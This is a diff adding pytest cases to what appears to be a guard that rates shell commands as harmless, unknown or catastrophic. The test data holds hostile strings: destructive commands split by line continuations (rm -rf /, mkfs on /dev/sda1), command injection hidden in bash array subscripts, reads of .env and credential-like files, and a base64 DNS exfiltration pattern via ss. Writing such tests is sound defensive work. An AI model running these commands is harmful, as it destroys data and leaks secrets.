@@ -42,6 +42,199 @@ def test_what_a_person_may_want_is_not_a_catastrophe() -> None:
 
 
 @pytest.mark.parametrize(
+    "command",
+    [
+        "z=(['y[$(touch q)]']=1)",
+        "read x < f; z=([x]=1)",
+        "x='y[$(touch z)]'; z+=([$x]=b)",
+        "for x in 'y[$(touch z)]'; do z=([x]=1); done",
+        "z=([0]=a [y]+=b)",
+        "z=({[x]=1,2})",
+        "z=(\\\n[x]=1)",
+    ],
+)
+def test_the_subscript_of_an_element_may_run_a_command(command: str) -> None:
+    assert judged(command).verdict == "unknown"
+
+
+@pytest.mark.parametrize("modifier", ["l", "ll", "h", "hh", "j", "z", "t", "L", "q", "5l", "-5hh", "*l"])
+def test_printf_sets_a_variable_whatever_stands_before_the_n(modifier: str) -> None:
+    assert judged(f"printf '%{modifier}n' PATH; ls").verdict == "unknown"
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        'BEGIN{print "a",\n"b" > "out"}',
+        'BEGIN{print 1 &&\n2 > "out"}',
+        '{print $1 ||\n$2 > "out"}',
+        'BEGIN{printf "%s",\n"b" >> "out"}',
+        'BEGIN{print "a", # c\n\n"b" > "out"}',
+        'BEGIN{print "a", \\\n"b" > "out"}',
+    ],
+)
+def test_a_print_of_awk_may_go_on_behind_a_newline(program: str) -> None:
+    assert judged(f"awk '{program}' f").verdict == "unknown"
+
+
+RESPONSES = ["@args", "m.o @args", "-- @args", "$(echo @args)", "*.o", '"$x"', "{a,@args}"]
+
+
+@pytest.mark.parametrize("program", ["nm", "strings", "size", "objdump -d", "readelf -h", "ar t", "c++filt"])
+def test_a_file_of_options_is_asked_about(program: str) -> None:
+    assert not [words for words in RESPONSES if judged(f"{program} {words}").verdict != "unknown"]
+    assert judged(f"x=@args; for y in $x; do {program} $y; done").verdict == "unknown"
+    assert judged(f"timeout 5 {program} @args").verdict == "unknown"
+
+
+@pytest.mark.parametrize("words", ["a?", "a[bc]", "src/*.txt", "-- a*", "$(cat f)"])
+@pytest.mark.parametrize("program", ["uniq", "uniq -c", "xxd", "xxd -p", "git symbolic-ref"])
+def test_what_may_become_two_operands_may_be_written(program: str, words: str) -> None:
+    assert judged(f"{program} {words}").verdict == "unknown"
+    assert judged(f"for x in {words}; do {program} $x; done").verdict == "unknown"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "jq -n '$ ENV'",
+        "jq -n '$\nENV.HOME'",
+        "jq -n '$ #x\nENV'",
+        "jq -R . -- --arg a /etc/hostname",
+        "jq . f -- --arg a .env",
+        "jq . -- -L x",
+        "jq . f -- .env",
+        "jq . -- $x",
+        "jq --arg a $x . f",
+        "ps -u root e",
+        "ps -U root eww",
+        "ps --user root e",
+        "ps -C top e",
+        "ps -C sudo eww",
+        "ps U root e",
+        "ps -Co e",
+        "ps -u r*",
+    ],
+)
+def test_what_shows_the_environment_or_other_files_is_asked_about(command: str) -> None:
+    assert judged(command).verdict == "unknown"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "grep .e*",
+        "grep id_*",
+        "rg .e*",
+        "zgrep .e* a.gz",
+        "x=$(cat f); grep $x",
+        "read x < f; grep $x f",
+        "sed s*a*b* f",
+        "find . -name *",
+        "find . -newer -*",
+        "find . -maxdepth [-]delet[e]",
+    ],
+)
+def test_a_word_that_may_become_several_is_not_only_a_pattern_or_a_value(command: str) -> None:
+    assert judged(command).verdict == "unknown"
+
+
+@pytest.mark.parametrize(
+    "words",
+    ["dst secret.x.test", 'dst "$(cat f | base64).x.test"', "dst dead:beef", "'( dst a.b or sport = :22 )'", "dst a*"],
+)
+def test_ss_may_ask_the_name_servers_about_a_host(words: str) -> None:
+    assert judged(f"ss -tn {words}").verdict == "unknown"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git foo -h",
+        "git gui -h",
+        "git http-backend -h",
+        "git gui --help",
+        "git log --help -w",
+        "git --help -w log",
+        "git -h --web log",
+        "git log --format=%G?",
+        "git log --format '%h %G? %s'",
+        "git show -s --pretty=tformat:%+GK",
+        'git log --format="$x"',
+        'git log --pretty "$x"',
+        "git reflog --format=%GG",
+        "git stash list --format=%GS",
+        "git for-each-ref --format='%(signature)'",
+        "git branch --list --format '%(*signature:grade)'",
+        "git tag --sort=signature",
+        "git for-each-ref --sort -signature:grade",
+        "git -c log.showSignature=true log",
+        "git -c LOG.SHOWSIGNATURE=1 log",
+        "rustup --version",
+        "terraform --version",
+        "terraform version",
+        "wc --files0-from=list",
+        "du --files0-from list",
+    ],
+)
+def test_what_may_start_a_program_of_somebody_s_choice_is_asked_about(command: str) -> None:
+    assert judged(command).verdict == "unknown"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'z=([0]=a [1]=b); echo "${z[@]}"',
+        "z=(a b); z+=(c[d]=e)",
+        "printf '%d %5.2f%%\\n' 1 2",
+        "awk '{print $1}\n$3 > 5 {print $2}' f",
+        "awk '{print $1\nif ($2 > 3) print $2}' f",
+        "nm -C src/a.o",
+        "uniq -c f",
+        "grep foo* src/a",
+        "sed -n '/x*/p' f",
+        "find . -name *.py",
+        "tr [a-z] [A-Z] < f",
+        "jq '.ENV' f",
+        "jq . -- f",
+        "jq --arg a \"$(date)\" '$a' f",
+        "ps -u root -o pid,cmd",
+        "ps axo pid,time",
+        "ps -C node -o pid",
+        "ps U root u",
+        "ss -tn state established",
+        "ss -tn dst 10.0.0.0/8",
+        "ss -tn '( dport = :443 or sport = :ssh )'",
+        "ss -tn 'dst [2001:db8::1]:80'",
+        "git grep -h foo",
+        "git grep -h",
+        "git log -h",
+        "git --help log",
+        "git log --pretty=format:'%h %an %ad %s'",
+        "git -c log.date=iso log",
+    ],
+)
+def test_what_looks_like_one_of_these_and_only_reads_stays_harmless(command: str) -> None:
+    assert judged(command).verdict == "harmless"
+
+
+@pytest.mark.parametrize("command", ["r\\\nm -rf /", "ls; su\\\ndo /bin/r\\\nm -rf ~", "ba\\\nsh -c 'rm -rf /'"])
+def test_a_name_over_two_lines_is_read_as_bash_joins_it(command: str) -> None:
+    assert judged(command).verdict == "catastrophic"
+
+
+@pytest.mark.parametrize("command", ["i\\\nf true; then ls; fi", "f\\\noo () { ls; }; foo", "a\\\n=b ls", "l\\\ns"])
+def test_other_words_over_two_lines_are_asked_about(command: str) -> None:
+    assert judged(command).verdict == "unknown"
+
+
+def test_a_dry_run_formats_no_disk() -> None:
+    assert judged("mkfs.ext4 -n /dev/sda1").verdict == "unknown"
+    assert judged("mkfs.ext4 -L -n /dev/sda1").verdict == "catastrophic"
+    assert judged("mkfs.fat -n X /dev/sda1").verdict == "catastrophic"
+
+
+@pytest.mark.parametrize(
     ("glob", "found", "verdict"),
     [
         ("cat *.py", ["/ws/a.py", "/ws/b.py"], "harmless"),
